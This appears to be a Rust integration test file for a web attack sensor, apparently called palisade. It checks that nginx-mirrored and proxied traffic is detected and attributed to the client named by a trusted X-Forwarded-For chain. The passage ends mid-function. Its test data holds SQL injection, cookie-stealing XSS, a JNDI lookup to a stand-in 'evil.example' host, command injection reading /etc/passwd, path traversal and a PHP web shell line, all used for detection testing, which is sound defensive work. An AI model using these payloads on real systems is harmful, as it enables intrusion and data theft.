//! The mirror and proxy sources end to end, on loopback only.
//!
//! - `nginx_mirror_end_to_end`: a real nginx (Debian's nginx-light) with the SHIPPED mirror
//!   snippet (`config/nginx/palisade-mirror*.conf`) in front of a small app, the sensor binary
//!   in mirror mode, a real nats-server. Attacks in a body, a cookie and a header are reported
//!   under the client the trusted X-Forwarded-For chain names (a spoofed peer header changes
//!   nothing); benign traffic is not reported; the app's answers are the same through an nginx
//!   without the mirror; the sensor killed mid-run, the app keeps answering through nginx.
//! - `mirror_and_capture_paths_agree`: a fixed generated sample (attack payloads x where they
//!   sit, benign controls) through the mirror server and through the reassembler as the eBPF
//!   capture feeds it: the same detections, request by request.
//! - `through_nginx_the_mirror_sees_what_the_capture_path_sees`: the same sample through a real
//!   nginx with the shipped snippet to the sensor (in process, publishing to nats-server): for
//!   every request nginx served, the same rules as the capture path, under the client of the
//!   trusted X-Forwarded-For chain.
//! - `proxy_*`: the proxy source in front of the app: bodies, chunked, keep-alive, a 20 MB
//!   upload streamed through, detection, and fail-open when the inspection queue is full.
//!
//! nginx and nats-server come from scripts/setup.sh; without them the tests that need them say
//! so and pass, except under `CI=true` ([`palisade_tests::skip_because`]).

use std::collections::{BTreeMap, BTreeSet};
use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::Ordering;
use std::time::{Duration, Instant};

use axum::Router;
use axum::body::Body;
use axum::http::{Method, Uri};
use futures_util::StreamExt;
use palisade_sensor::clientip::{Attribution, ClientHeader};
use palisade_sensor::config::{MirrorConfig, ReassemblyConfig};
use palisade_sensor::detect::Detector;
use palisade_sensor::http::{ChunkedDecoder, ParseLimits};
use palisade_sensor::metrics::Metrics;
use palisade_sensor::pipeline::{Origin, Pipeline};
use palisade_sensor::reassembly::{FlowKey, Reassembler, Segment};
use palisade_sensor::tap::{self, PeerFrom};
use palisade_tests::nats::NatsServer;
use palisade_tests::nginx::Nginx;
use palisade_wire::Report;
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

// ---------------------------------------------------------------------------------------------
// The application: answers every request with what it received (method, target, body length
// and checksum), reading the body as a stream.

/// What the app answers for a request.
async fn app_answer(method: Method, uri: Uri, body: Body) -> String {
    let mut stream = body.into_data_stream();
    let (mut len, mut sum) = (0u64, 0u64);
    while let Some(chunk) = stream.next().await {
        let Ok(chunk) = chunk else {
            return "body error\n".to_owned();
        };
        len += chunk.len() as u64;
        sum = chunk
            .iter()
            .fold(sum, |a, b| a.wrapping_mul(31).wrapping_add(u64::from(*b)));
    }
    format!("{method} {uri} len={len} sum={sum:x}\n")
}

/// The app on a free loopback port.
async fn start_app() -> SocketAddr {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let app = Router::new().fallback(app_answer);
    tokio::spawn(async move {
        let _ = axum::serve(listener, app).await;
    });
    addr
}

/// The app's checksum of `body`, to compare with its answer.
fn sum(body: &[u8]) -> String {
    let s = body
        .iter()
        .fold(0u64, |a, b| a.wrapping_mul(31).wrapping_add(u64::from(*b)));
    format!("len={} sum={s:x}", body.len())
}

// ---------------------------------------------------------------------------------------------
// A raw HTTP/1.1 client: requests written byte for byte, responses read by their framing.

/// Read one response: (status, body).
async fn read_response(stream: &mut (impl AsyncRead + Unpin), buf: &mut Vec<u8>) -> (u16, Vec<u8>) {
    let head_end = loop {
        if let Some(i) = buf.windows(4).position(|w| w == b"\r\n\r\n") {
            break i + 4;
        }
        let mut chunk = [0u8; 8192];
        let n = stream.read(&mut chunk).await.unwrap();
        assert!(n > 0, "connection closed before a response head");
        buf.extend_from_slice(&chunk[..n]);
    };
    let head = String::from_utf8_lossy(&buf[..head_end]).into_owned();
    buf.drain(..head_end);
    let status: u16 = head
        .split_whitespace()
        .nth(1)
        .and_then(|s| s.parse().ok())
        .unwrap();
    let header = |name: &str| {
        head.lines()
            .filter_map(|l| l.split_once(':'))
            .find(|(n, _)| n.trim().eq_ignore_ascii_case(name))
            .map(|(_, v)| v.trim().to_owned())
    };
    let mut body = Vec::new();
    if header("transfer-encoding").is_some_and(|v| v.eq_ignore_ascii_case("chunked")) {
        let mut decoder = ChunkedDecoder::new();
        loop {
            let done = decoder.feed(buf, |d| body.extend_from_slice(d)).unwrap();
            if let Some(n) = done {
                buf.drain(..n);
                break;
            }
            buf.clear();
            let mut chunk = [0u8; 8192];
            let n = stream.read(&mut chunk).await.unwrap();
            assert!(n > 0, "connection closed inside a chunked body");
            buf.extend_from_slice(&chunk[..n]);
        }
    } else {
        let len: usize = header("content-length")
            .and_then(|v| v.parse().ok())
            .unwrap_or(0);
        while buf.len() < len {
            let mut chunk = [0u8; 8192];
            let n = stream.read(&mut chunk).await.unwrap();
            assert!(n > 0, "connection closed inside a body");
            buf.extend_from_slice(&chunk[..n]);
        }
        body = buf.drain(..len).collect();
    }
    (status, body)
}

/// Send each request on one keep-alive connection; the responses, in order.
async fn exchange(addr: SocketAddr, requests: &[Vec<u8>]) -> Vec<(u16, String)> {
    let mut stream = TcpStream::connect(addr).await.unwrap();
    let mut buf = Vec::new();
    let mut out = Vec::new();
    for r in requests {
        stream.write_all(r).await.unwrap();
        let (status, body) = tokio::time::timeout(
            Duration::from_secs(10),
            read_response(&mut stream, &mut buf),
        )
        .await
        .expect("answered within 10 s");
        out.push((status, String::from_utf8_lossy(&body).into_owned()));
    }
    out
}

/// A request as a load balancer forwards it: `X-Forwarded-For` ends with the client.
fn request(method: &str, target: &str, xff: &str, headers: &[&str], body: &[u8]) -> Vec<u8> {
    let mut out = format!(
        "{method} {target} HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\nX-Forwarded-For: {xff}\r\n"
    )
    .into_bytes();
    for h in headers {
        out.extend_from_slice(h.as_bytes());
        out.extend_from_slice(b"\r\n");
    }
    if !body.is_empty() || method == "POST" {
        out.extend_from_slice(format!("Content-Length: {}\r\n", body.len()).as_bytes());
    }
    out.extend_from_slice(b"\r\n");
    out.extend_from_slice(body);
    out
}

/// The same request with a chunked body.
fn chunked_request(target: &str, xff: &str, body: &[u8]) -> Vec<u8> {
    let mut out = format!(
        "POST {target} HTTP/1.1\r\nHost: shop.example\r\nX-Forwarded-For: {xff}\r\nContent-Type: application/x-www-form-urlencoded\r\nTransfer-Encoding: chunked\r\n\r\n"
    )
    .into_bytes();
    for chunk in body.chunks(7) {
        out.extend_from_slice(format!("{:x}\r\n", chunk.len()).as_bytes());
        out.extend_from_slice(chunk);
        out.extend_from_slice(b"\r\n");
    }
    out.extend_from_slice(b"0\r\n\r\n");
    out
}

// ---------------------------------------------------------------------------------------------
// nginx + mirror + sensor binary + nats-server.

/// nginx (with or without the shipped mirror snippet) proxying to `app`.
fn start_nginx(app: SocketAddr, mirror_port: Option<u16>) -> anyhow::Result<Nginx> {
    let location = format!("location / {{ proxy_pass http://{app}; }}");
    let Some(port) = mirror_port else {
        return Nginx::start(&location);
    };
    let (http, include) = palisade_tests::nginx::shipped_mirror(port)?;
    Nginx::start_with_http(&http, &format!("{include}\n        {location}"))
}

fn nginx_missing() -> Option<String> {
    Nginx::version()
        .is_none()
        .then(|| "nginx is not installed (scripts/setup.sh installs nginx-light)".to_owned())
}

fn nats_missing() -> Option<String> {
    let found = std::process::Command::new("nats-server")
        .arg("--version")
        .output()
        .is_ok();
    (!found).then(|| "nats-server is not installed (scripts/setup.sh installs it)".to_owned())
}

/// Every report stored in the stream.
async fn stored_reports(server: &NatsServer) -> Vec<Report> {
    server
        .stored_messages(palisade_wire::STREAM_NAME)
        .await
        .unwrap()
        .iter()
        .map(|msg| Report::from_slice(&msg.payload).expect("stored report follows the contract"))
        .collect()
}

/// The sensor binary in mirror mode (killed on drop).
struct Sensor {
    child: std::process::Child,
    metrics: SocketAddr,
}

impl Sensor {
    fn start(mirror_port: u16, nats: &str) -> Sensor {
        let metrics_port = palisade_tests::free_port().unwrap();
        let child = std::process::Command::new(env!("CARGO_BIN_EXE_palisade-sensor"))
            .args([
                "--source",
                "mirror",
                "--mirror-listen",
                &format!("127.0.0.1:{mirror_port}"),
                "--nats-url",
                nats,
                "--sensor-id",
                "mirror-e2e",
                // The "load balancer" is the test client on loopback: trusted, its
                // X-Forwarded-For walked from the right.
                "--trusted-proxy",
                "127.0.0.0/8",
                "--client-ip-header",
                "x-forwarded-for",
                "--report-special",
                "203.0.113.0/24,198.51.100.0/24",
                "--report-window-secs",
                "1",
                "--metrics-listen",
                &format!("127.0.0.1:{metrics_port}"),
            ])
            .env("POD_NAME", "web-5d8f7-abcde")
            .env("POD_NAMESPACE", "web")
            .env("NODE_NAME", "fargate-ip-10-0-1-2")
            .env("RUST_LOG", "warn")
            .stdin(std::process::Stdio::null())
            .spawn()
            .unwrap();
        Sensor {
            child,
            metrics: SocketAddr::from(([127, 0, 0, 1], metrics_port)),
        }
    }

    /// `/metrics` as text.
    async fn metrics(&self) -> String {
        let req = b"GET /metrics HTTP/1.1\r\nHost: m\r\n\r\n".to_vec();
        let got = exchange(self.metrics, &[req]).await;
        got.into_iter().next().map(|(_, b)| b).unwrap_or_default()
    }

    async fn counter(&self, name: &str) -> u64 {
        self.metrics()
            .await
            .lines()
            .find_map(|l| l.strip_prefix(name)?.strip_prefix(' ')?.parse().ok())
            .unwrap_or(0)
    }
}

impl Drop for Sensor {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// How often the waits below check.
const POLL: Duration = Duration::from_millis(50);

#[tokio::test]
async fn nginx_mirror_end_to_end() {
    if palisade_tests::skip_because(
        "nginx_mirror_end_to_end",
        nginx_missing().or_else(nats_missing),
    ) {
        return;
    }
    let nats = NatsServer::start().await.unwrap();
    let app = start_app().await;
    let mirror_port = palisade_tests::free_port().unwrap();
    let sensor = Sensor::start(mirror_port, &nats.url());
    let mirrored = start_nginx(app, Some(mirror_port)).unwrap();
    let plain = start_nginx(app, None).unwrap();
    let mirrored_addr = SocketAddr::from(([127, 0, 0, 1], mirrored.port()));
    let plain_addr = SocketAddr::from(([127, 0, 0, 1], plain.port()));
    let mirror_addr = SocketAddr::from(([127, 0, 0, 1], mirror_port));
    palisade_tests::wait_for(
        "the sensor's mirror port",
        Duration::from_secs(30),
        POLL,
        || async { TcpStream::connect(mirror_addr).await.is_ok() },
    )
    .await;

    // Attacks where log mode cannot see them, each from its own client (the last
    // X-Forwarded-For entry); left of it, what the client claimed.
    let attacks = [
        request(
            "POST",
            "/login",
            "203.0.113.10",
            &["Content-Type: application/x-www-form-urlencoded"],
            b"user=admin&pass=1%27%20union%20select%20password%20from%20users--",
        ),
        request(
            "GET",
            "/account",
            "198.51.100.250, 203.0.113.11",
            &["Cookie: theme=dark; sid=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"],
            b"",
        ),
        // A client-written peer header: nginx replaces it with the address it saw.
        request(
            "GET",
            "/api/items",
            "203.0.113.12",
            &[
                "X-Api-Version: ${jndi:ldap://evil.example/a}",
                "X-Palisade-Peer: 198.51.100.251",
            ],
            b"",
        ),
        chunked_request(
            "/upload",
            "203.0.113.13",
            b"name=x&cmd=%3Bcat%20%2Fetc%2Fpasswd",
        ),
    ];
    let benign = vec![
        request("GET", "/index.html", "203.0.113.20", &[], b""),
        request(
            "POST",
            "/search",
            "203.0.113.20",
            &[
                "Content-Type: application/x-www-form-urlencoded",
                "Cookie: theme=dark; sid=a81f",
            ],
            b"q=summer+sale+2024&page=2",
        ),
        chunked_request("/form", "203.0.113.20", b"a=1&b=2&c=hello+world"),
    ];
    let all: Vec<Vec<u8>> = attacks.iter().chain(&benign).cloned().collect();

    // The app answers the same with and without the mirror.
    let through_mirror = exchange(mirrored_addr, &all).await;
    let through_plain = exchange(plain_addr, &all).await;
    assert_eq!(through_mirror, through_plain);
    assert!(
        through_mirror.iter().all(|(s, _)| *s == 200),
        "{through_mirror:?}"
    );

    // The reports name the clients of the trusted chain, with the pod's context.
    let want: BTreeSet<IpAddr> = [
        "203.0.113.10",
        "203.0.113.11",
        "203.0.113.12",
        "203.0.113.13",
    ]
    .iter()
    .map(|s| s.parse().unwrap())
    .collect();
    let deadline = Instant::now() + Duration::from_secs(30);
    let reports = loop {
        let reports = stored_reports(&nats).await;
        let got: BTreeSet<IpAddr> = reports.iter().map(|r| r.client_ip).collect();
        if want.is_subset(&got) {
            break reports;
        }
        assert!(Instant::now() < deadline, "reports so far: {reports:#?}");
        tokio::time::sleep(Duration::from_millis(100)).await;
    };
    let clients: BTreeSet<IpAddr> = reports.iter().map(|r| r.client_ip).collect();
    assert_eq!(
        clients, want,
        "no benign client, no claimed address: {reports:#?}"
    );
    for r in &reports {
        assert_eq!(r.peer_ip, "127.0.0.1".parse::<IpAddr>().unwrap());
        let c = r.context.as_ref().unwrap();
        assert_eq!(c.pod.as_deref(), Some("web-5d8f7-abcde"));
        assert_eq!(c.namespace.as_deref(), Some("web"));
        assert_eq!(c.node.as_deref(), Some("fargate-ip-10-0-1-2"));
    }
    let categories: BTreeSet<&str> = reports.iter().map(|r| r.category.as_str()).collect();
    assert!(categories.len() >= 3, "{categories:?}");
    assert!(
        sensor
            .counter("palisade_sensor_mirror_requests_total")
            .await
            >= all.len() as u64
    );
    assert_eq!(
        sensor.counter("palisade_sensor_mirror_dropped_total").await,
        0
    );

    // A mirrored request without the proxy's header is rejected (counted), never reported.
    let forged = request(
        "GET",
        "/?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "203.0.113.30",
        &[],
        b"",
    );
    let answer = exchange(mirror_addr, &[forged]).await;
    assert_eq!(answer[0].0, 204);
    palisade_tests::wait_for("the rejection", Duration::from_secs(10), POLL, || async {
        sensor
            .counter("palisade_sensor_mirror_rejected_no_peer_total")
            .await
            >= 1
    })
    .await;

    // Kill the sensor mid-run: traffic keeps flowing through nginx while the sensor dies, and
    // after; every answer is the app's, none waits on the dead sensor.
    let killed = Arc::new(std::sync::atomic::AtomicBool::new(false));
    let traffic = {
        let (all, killed) = (all.clone(), killed.clone());
        tokio::spawn(async move {
            let (mut batches, mut after_kill) = (Vec::new(), 0);
            while after_kill < 10 {
                after_kill += usize::from(killed.load(Ordering::Relaxed));
                let started = Instant::now();
                let answers = exchange(mirrored_addr, &all).await;
                batches.push((answers, started.elapsed()));
            }
            batches
        })
    };
    tokio::time::sleep(Duration::from_millis(100)).await;
    drop(sensor);
    killed.store(true, Ordering::Relaxed);
    let batches = traffic.await.unwrap();
    assert!(batches.len() > 10, "traffic ran before the kill too");
    for (answers, took) in &batches {
        assert_eq!(
            answers, &through_plain,
            "the app's answers while the sensor died"
        );
        assert!(*took < Duration::from_secs(5), "a batch took {took:?}");
    }
    let after = exchange(mirrored_addr, &all).await;
    assert_eq!(
        after, through_plain,
        "the app's answers after the sensor died"
    );
    let reported: BTreeSet<IpAddr> = stored_reports(&nats)
        .await
        .iter()
        .map(|r| r.client_ip)
        .collect();
    assert!(!reported.contains(&"203.0.113.30".parse::<IpAddr>().unwrap()));
}

// ---------------------------------------------------------------------------------------------
// Differential: the mirror path and the capture path on the same requests.

const PAYLOADS: &[&str] = &[
    "1' union select password from users--",
    "<script>alert(document.cookie)</script>",
    "${jndi:ldap://evil.example/a}",
    "x;cat /etc/passwd",
    "../../../../etc/shadow",
    "<?php system($_GET['c']); ?>",
    "summer sale 2024",
    "O'Brien & sons",
];

fn pct(s: &str) -> String {
    s.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

/// The sample: every payload in the path, the query, a header, a cookie, a form body, a JSON
/// body and a chunked body.
fn sample() -> Vec<Vec<u8>> {
    let mut out = Vec::new();
    for p in PAYLOADS {
        let e = pct(p);
        let json = format!("{{\"comment\":{}}}", serde_json::to_string(p).unwrap());
        out.push(request("GET", &format!("/shop/{e}"), "x", &[], b""));
        out.push(request(
            "GET",
            &format!("/shop?q={e}&page=2"),
            "x",
            &[],
            b"",
        ));
        out.push(request(
            "GET",
            "/shop",
            "x",
            &[&format!("X-Data: {p}")],
            b"",
        ));
        out.push(request(
            "GET",
            "/shop",
            "x",
            &[&format!("Cookie: a=1; sid={e}")],
            b"",
        ));
        out.push(request(
            "POST",
            "/shop",
            "x",
            &["Content-Type: application/x-www-form-urlencoded"],
            format!("q={e}&page=2").as_bytes(),
        ));
        out.push(request(
            "POST",
            "/api",
            "x",
            &["Content-Type: application/json"],
            json.as_bytes(),
        ));
        out.push(chunked_request("/shop", "x", format!("q={e}").as_bytes()));
    }
    out
}

/// A pipeline that reports every client (documentation range), trusting nobody: the peer is
/// the client.
fn bare_pipeline(metrics: Arc<Metrics>) -> Pipeline {
    Pipeline::new(
        Detector::builtin().unwrap(),
        Attribution::new(
            ClientHeader::XForwardedFor,
            Vec::new(),
            0,
            vec!["2001:db8::/32".parse().unwrap()],
        ),
        "diff".into(),
        Duration::from_secs(60),
        metrics,
        None,
    )
}

/// Client `i` of the sample.
fn client(i: usize) -> IpAddr {
    IpAddr::V6(std::net::Ipv6Addr::new(
        0x2001,
        0xdb8,
        0,
        0,
        0,
        0,
        0,
        i as u16 + 1,
    ))
}

/// Rules reported per request through the capture path (segments of one MSS from the first
/// byte, as the kernel hands them over).
fn capture_path(sample: &[Vec<u8>]) -> BTreeMap<usize, BTreeSet<String>> {
    let pipeline = bare_pipeline(Arc::new(Metrics::default()));
    let mut reassembler = Reassembler::new(ReassemblyConfig::default(), ParseLimits::default());
    let mut out: BTreeMap<usize, BTreeSet<String>> = BTreeMap::new();
    for (i, bytes) in sample.iter().enumerate() {
        let key = FlowKey {
            src: client(i),
            src_port: 40000,
            dst: "2001:db8::ffff".parse().unwrap(),
            dst_port: 80,
        };
        let chunks: Vec<&[u8]> = bytes.chunks(1448).collect();
        let mut seq = 1000u32;
        for (n, chunk) in chunks.iter().enumerate() {
            let seg = Segment {
                seq,
                len: chunk.len() as u32,
                data: chunk,
                end: n + 1 == chunks.len(),
                now_ns: 0,
                established: true,
                stream_start: Some(1000),
            };
            reassembler.push(key, seg, |key, request, meta| {
                for r in pipeline.handle(
                    key.src,
                    &request,
                    meta,
                    &Origin::default(),
                    chrono::Utc::now(),
                ) {
                    out.entry(i).or_default().insert(r.rule);
                }
            });
            seq = seq.wrapping_add(chunk.len() as u32);
        }
    }
    out
}

/// Rules detected for one mirrored request through the sensor's mirror server and its
/// inspection worker, both run to completion.
async fn mirror_path(
    pipeline: &Arc<Pipeline>,
    metrics: &Arc<Metrics>,
    mirrored: &[u8],
) -> BTreeSet<String> {
    let (tap, worker) = tap::channel(
        16,
        64 << 20,
        ReassemblyConfig::default(),
        PeerFrom::Header("x-palisade-peer".into()),
        Origin::default(),
    );
    let listener = palisade_sensor::tap::bind("127.0.0.1:0".parse().unwrap())
        .await
        .unwrap();
    let addr = listener.local_addr().unwrap();
    let (stop, stopped) = tokio::sync::oneshot::channel::<()>();
    let server = tokio::spawn(palisade_sensor::mirror::serve(
        listener,
        MirrorConfig::default(),
        ReassemblyConfig::default().max_body_inspect,
        tap,
        metrics.clone(),
        async {
            let _ = stopped.await;
        },
    ));
    let inspect = {
        let (pipeline, metrics) = (pipeline.clone(), metrics.clone());
        tokio::task::spawn_blocking(move || worker.run(&pipeline, &metrics))
    };
    let before = metrics.detections();
    let answers = exchange(addr, &[mirrored.to_vec()]).await;
    assert_eq!(answers[0].0, 204);
    // Stopping the server drops the queue's senders: the worker drains it and ends.
    let _ = stop.send(());
    server.await.unwrap();
    inspect.await.unwrap();
    metrics
        .detections()
        .into_iter()
        .filter(|(rule, n)| before.get(rule).copied().unwrap_or(0) < *n)
        .map(|(rule, _)| rule)
        .collect()
}

#[tokio::test]
async fn mirror_and_capture_paths_agree() {
    let sample = sample();
    let want = capture_path(&sample);
    assert!(
        want.len() >= PAYLOADS.len() * 4,
        "the sample has attacks the capture path sees"
    );
    let metrics = Arc::new(Metrics::default());
    let pipeline = Arc::new(bare_pipeline(metrics.clone()));
    let mut got = BTreeMap::new();
    for (i, bytes) in sample.iter().enumerate() {
        // What the proxy adds: its peer header, after the request line.
        let line_end = bytes.windows(2).position(|w| w == b"\r\n").unwrap() + 2;
        let mut mirrored = bytes[..line_end].to_vec();
        mirrored.extend_from_slice(format!("X-Palisade-Peer: {}\r\n", client(i)).as_bytes());
        mirrored.extend_from_slice(&bytes[line_end..]);
        let rules = mirror_path(&pipeline, &metrics, &mirrored).await;
        if !rules.is_empty() {
            got.insert(i, rules);
        }
    }
    assert_eq!(
        metrics.mirror_inspected.load(Ordering::Relaxed),
        sample.len() as u64
    );
    assert!(metrics.unattributed_by_reason().is_empty());
    assert_eq!(got, want, "mirror path vs capture path, by request");
}

// ---------------------------------------------------------------------------------------------
// The proxy source.

struct Proxy {
    addr: SocketAddr,
    metrics: Arc<Metrics>,
    stop: Option<tokio::sync::oneshot::Sender<()>>,
    server: Option<tokio::task::JoinHandle<()>>,
    worker: Option<tokio::task::JoinHandle<()>>,
    /// The worker of a proxy whose queue nobody drains.
    idle_worker: Option<tap::Worker>,
}

impl Proxy {
    /// The proxy source in front of `app`; with `inspect` false no worker drains the queue
    /// (of `queue` copies), so it fills at once.
    async fn start(app: SocketAddr, queue: usize, inspect: bool) -> Proxy {
        let metrics = Arc::new(Metrics::default());
        let pipeline = Arc::new(Pipeline::new(
            Detector::builtin().unwrap(),
            Attribution::new(
                ClientHeader::XForwardedFor,
                vec!["127.0.0.0/8".parse().unwrap()],
                0,
                vec!["203.0.113.0/24".parse().unwrap()],
            ),
            "proxy-test".into(),
            Duration::from_secs(60),
            metrics.clone(),
            None,
        ));
        let (tap, worker) = tap::channel(
            queue,
            64 << 20,
            ReassemblyConfig::default(),
            PeerFrom::Connection,
            Origin::default(),
        );
        let (worker, idle_worker) = if inspect {
            let m = metrics.clone();
            let run = tokio::task::spawn_blocking(move || worker.run(&pipeline, &m));
            (Some(run), None)
        } else {
            // Held, never run: the queue fills and stays full.
            (None, Some(worker))
        };
        let listener = palisade_sensor::tap::bind("127.0.0.1:0".parse().unwrap())
            .await
            .unwrap();
        let addr = listener.local_addr().unwrap();
        let (stop, stopped) = tokio::sync::oneshot::channel::<()>();
        let server = tokio::spawn(palisade_sensor::proxy::serve(
            listener,
            app,
            64,
            tap,
            metrics.clone(),
            async {
                let _ = stopped.await;
            },
        ));
        Proxy {
            addr,
            metrics,
            stop: Some(stop),
            server: Some(server),
            worker,
            idle_worker,
        }
    }

    /// Stop accepting, end the connections, let the worker drain.
    async fn stop(mut self) -> Arc<Metrics> {
        if let Some(stop) = self.stop.take() {
            let _ = stop.send(());
        }
        if let Some(server) = self.server.take() {
            server.await.unwrap();
        }
        if let Some(worker) = self.worker.take() {
            worker.await.unwrap();
        }
        drop(self.idle_worker.take());
        self.metrics.clone()
    }
}

#[tokio::test]
async fn proxy_forwards_bodies_chunked_and_keep_alive() {
    let app = start_app().await;
    let proxy = Proxy::start(app, 4096, true).await;
    let form = b"q=summer+sale&page=2".to_vec();
    let requests = vec![
        request("GET", "/index.html?a=1", "203.0.113.40", &[], b""),
        request("POST", "/form", "203.0.113.40", &[], &form),
        chunked_request("/chunked", "203.0.113.40", b"a=1&b=2&c=three"),
        request("GET", "/last", "203.0.113.40", &[], b""),
    ];
    // One keep-alive connection through the proxy, and the app directly: the same answers.
    let via_proxy = exchange(proxy.addr, &requests).await;
    let direct = exchange(app, &requests).await;
    assert_eq!(via_proxy, direct);
    assert_eq!(via_proxy[1].1, format!("POST /form {}\n", sum(&form)));
    assert_eq!(
        via_proxy[2].1,
        format!("POST /chunked {}\n", sum(b"a=1&b=2&c=three"))
    );
    // An attack through the proxy is detected and attributed (to the X-Forwarded-For client
    // behind the trusted loopback "load balancer"), not counted as unattributed.
    let attack = request(
        "POST",
        "/login",
        "203.0.113.41",
        &["Content-Type: application/x-www-form-urlencoded"],
        b"user=1%27%20union%20select%20password%20from%20users--",
    );
    assert_eq!(exchange(proxy.addr, &[attack]).await[0].0, 200);
    let metrics = proxy.stop().await;
    assert!(
        metrics.detections_total() >= 1,
        "{:?}",
        metrics.detections()
    );
    assert!(
        metrics.unattributed_by_reason().is_empty(),
        "{:?}",
        metrics.unattributed_by_reason()
    );
    assert_eq!(metrics.proxy_copies_dropped.load(Ordering::Relaxed), 0);
    assert_eq!(metrics.proxy_connections.load(Ordering::Relaxed), 2);
}

#[tokio::test]
async fn proxy_streams_a_large_upload() {
    let app = start_app().await;
    let proxy = Proxy::start(app, 4096, true).await;
    let body: Vec<u8> = (0..20 * 1024 * 1024u32)
        .map(|i| b'a' + (i % 26) as u8)
        .collect();
    let mut stream = TcpStream::connect(proxy.addr).await.unwrap();
    let head = format!(
        "PUT /upload HTTP/1.1\r\nHost: shop.example\r\nContent-Length: {}\r\n\r\n",
        body.len()
    );
    stream.write_all(head.as_bytes()).await.unwrap();
    // The app sees the upload while it is being sent: bytes flow before the body is complete.
    stream.write_all(&body[..1 << 20]).await.unwrap();
    let metrics = proxy.metrics.clone();
    palisade_tests::wait_for(
        "the first megabyte at the app",
        Duration::from_secs(10),
        POLL,
        || {
            let m = metrics.clone();
            async move { m.proxy_bytes_in.load(Ordering::Relaxed) >= 1 << 20 }
        },
    )
    .await;
    stream.write_all(&body[1 << 20..]).await.unwrap();
    let mut buf = Vec::new();
    let (status, answer) = tokio::time::timeout(
        Duration::from_secs(60),
        read_response(&mut stream, &mut buf),
    )
    .await
    .unwrap();
    assert_eq!(status, 200);
    assert_eq!(
        String::from_utf8_lossy(&answer),
        format!("PUT /upload {}\n", sum(&body))
    );
    drop(stream);
    let metrics = proxy.stop().await;
    assert!(metrics.proxy_bytes_in.load(Ordering::Relaxed) >= body.len() as u64);
    // Past the inspection bound the body is forwarded without being copied for inspection.
    let not_copied = metrics.proxy_bytes_not_copied.load(Ordering::Relaxed);
    assert!(
        not_copied >= (body.len() - 2 * 1024 * 1024) as u64,
        "only {not_copied} of {} body bytes went uncopied",
        body.len()
    );
    assert_eq!(metrics.proxy_copies_dropped.load(Ordering::Relaxed), 0);
}

#[tokio::test]
async fn proxy_fails_open_when_the_queue_is_full() {
    let app = start_app().await;
    // A queue of one copy that nobody drains.
    let proxy = Proxy::start(app, 1, false).await;
    let requests: Vec<Vec<u8>> = (0..20)
        .map(|i| {
            request(
                "POST",
                &format!("/item/{i}"),
                "203.0.113.50",
                &[],
                format!("n={i}").as_bytes(),
            )
        })
        .collect();
    let via_proxy = exchange(proxy.addr, &requests).await;
    let direct = exchange(app, &requests).await;
    assert_eq!(via_proxy, direct, "every request still answered");
    let metrics = proxy.stop().await;
    assert!(metrics.proxy_copies_dropped.load(Ordering::Relaxed) > 0);
}

/// `bytes` with the sample's placeholder `X-Forwarded-For` replaced by client `i`, as the
/// load balancer would append it.
fn from_client(i: usize, bytes: &[u8]) -> Vec<u8> {
    let placeholder = b"X-Forwarded-For: x\r\n";
    let at = bytes
        .windows(placeholder.len())
        .position(|w| w == placeholder)
        .expect("every sample request has the placeholder");
    let mut out = bytes[..at].to_vec();
    out.extend_from_slice(format!("X-Forwarded-For: {}\r\n", client(i)).as_bytes());
    out.extend_from_slice(&bytes[at + placeholder.len()..]);
    out
}

/// The sample through a real nginx with the shipped mirror snippet to the sensor (run in
/// process, publishing to a real nats-server), against the capture path on the same bytes:
/// for every request nginx served, the same rules, under the client of the trusted chain.
#[tokio::test]
async fn through_nginx_the_mirror_sees_what_the_capture_path_sees() {
    let test = "through_nginx_the_mirror_sees_what_the_capture_path_sees";
    if palisade_tests::skip_because(test, nginx_missing().or_else(nats_missing)) {
        return;
    }
    let sample: Vec<Vec<u8>> = sample()
        .iter()
        .enumerate()
        .map(|(i, r)| from_client(i, r))
        .collect();
    let want = capture_path(&sample);

    let nats = NatsServer::start().await.unwrap();
    let mirror_port = palisade_tests::free_port().unwrap();
    let mut config = palisade_sensor::config::Config {
        sensor_id: "mirror-diff".into(),
        source: palisade_sensor::config::Source::Mirror,
        trusted_proxies: vec!["127.0.0.0/8".parse().unwrap()],
        report_special: vec!["2001:db8::/32".parse().unwrap()],
        ..Default::default()
    };
    config.mirror.listen = SocketAddr::from(([127, 0, 0, 1], mirror_port));
    config.nats.url = nats.url();
    let metrics = Arc::new(Metrics::default());
    let (stop, stopped) = tokio::sync::oneshot::channel::<()>();
    let sensor = tokio::spawn(palisade_sensor::run(config, metrics.clone(), async {
        let _ = stopped.await;
    }));
    let mirror_addr = SocketAddr::from(([127, 0, 0, 1], mirror_port));
    palisade_tests::wait_for("the mirror port", Duration::from_secs(30), POLL, || async {
        TcpStream::connect(mirror_addr).await.is_ok()
    })
    .await;
    let app = start_app().await;
    let nginx = start_nginx(app, Some(mirror_port)).unwrap();
    let nginx_addr = SocketAddr::from(([127, 0, 0, 1], nginx.port()));

    // One connection per request: a request nginx refuses closes its connection.
    let mut served = BTreeSet::new();
    for (i, r) in sample.iter().enumerate() {
        let (status, _) = exchange(nginx_addr, std::slice::from_ref(r)).await[0].clone();
        if status == 200 {
            served.insert(i);
        }
    }
    assert!(
        served.len() * 10 >= sample.len() * 8,
        "nginx served {served:?}"
    );
    palisade_tests::wait_for(
        "every served request inspected",
        Duration::from_secs(30),
        POLL,
        || {
            let m = metrics.clone();
            let n = served.len() as u64;
            async move { m.mirror_inspected.load(Ordering::Relaxed) >= n }
        },
    )
    .await;
    let _ = stop.send(());
    sensor.await.unwrap().unwrap();

    let by_client: BTreeMap<IpAddr, usize> = (0..sample.len()).map(|i| (client(i), i)).collect();
    let mut got: BTreeMap<usize, BTreeSet<String>> = BTreeMap::new();
    for report in stored_reports(&nats).await {
        let i = *by_client
            .get(&report.client_ip)
            .unwrap_or_else(|| panic!("a report for an unknown client: {report:?}"));
